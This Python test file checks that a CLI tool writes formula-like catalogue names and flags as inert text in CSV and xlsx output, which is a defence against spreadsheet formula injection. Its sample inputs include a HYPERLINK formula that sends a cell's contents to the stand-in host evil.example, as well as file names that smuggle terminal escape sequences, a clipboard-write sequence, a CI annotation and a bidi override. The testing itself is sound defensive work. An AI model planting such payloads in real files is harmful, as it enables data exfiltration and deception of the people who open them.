"""Spreadsheet-bound outputs hold no live formula (issue 11, item 3: OWASP CSV injection).

Catalogue names and submitted flags that start with ``=``, ``+``, ``-``, ``@``, a tab or CR are
written so that Excel and LibreOffice show them as text: a leading ``'`` in CSV, a string cell
in xlsx. Real numbers (a negative gap) stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl

from plancheck.text import is_formula

from .conftest import run_cli
from .test_hostile import hostile_actuals, hostile_catalogue

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click me")'


def test_csv_template_writes_formula_names_as_text(tmp_path: Path) -> None:
    catalogue = hostile_catalogue(tmp_path / "catalogue", LINK)
    result = run_cli("template", "--targets", catalogue)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
    guangdong = [r for r in rows if r["region"] == "guangdong"]
    assert guangdong and {r["region_name_en"] for r in guangdong} == {"'" + LINK}
    assert [c for r in rows for c in r.values() if is_formula(c)] == []


def test_xlsx_template_writes_formula_names_as_string_cells(tmp_path: Path) -> None:
    catalogue = hostile_catalogue(tmp_path / "catalogue", LINK)
    out = tmp_path / "template.xlsx"
    result = run_cli("template", "--targets", catalogue, "-o", out)
    assert result.exit_code == 0, result.stderr
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {c.value for c in cells if c.column_letter == "F" and c.row > 1}
    assert LINK in names  # the name kept as written, as text


def test_xlsx_template_shows_control_characters_instead_of_failing(tmp_path: Path) -> None:
    catalogue = hostile_catalogue(tmp_path / "catalogue", "bell\x07 esc\x1b[31m")
    out = tmp_path / "template.xlsx"
    result = run_cli("template", "--targets", catalogue, "-o", out)
    assert result.exit_code == 0, result.stderr
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    assert "bell\\x07 esc\\x1b[31m" in {c.value for row in sheet.iter_rows() for c in row}


def test_csv_report_neutralises_formulas_and_keeps_negative_numbers(tmp_path: Path) -> None:
    catalogue = hostile_catalogue(tmp_path / "catalogue", "@SUM(A1:A9)")
    actuals = hostile_actuals(tmp_path / "actuals", "-2+3")
    result = run_cli("check", "--targets", catalogue, "-a", actuals, "-f", "csv")
    assert result.exit_code == 1, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
    forest = next(r for r in rows if r["target_id"] == "demo_forest_2015")
    assert forest["flag"] == "'-2+3"
    assert forest["gap"] == "-0.5"  # a real negative number stays a number
    assert forest["actual_source_file"].endswith(
        "a\\n::error::x\\x1b]52;c;QQ==\\x07\\u202e=1+1.csv"
    )
    assert {r["region_name"] for r in rows if r["region"] == "guangdong"} == {"'@SUM(A1:A9)"}
    assert [c for r in rows for c in r.values() if is_formula(c)] == []
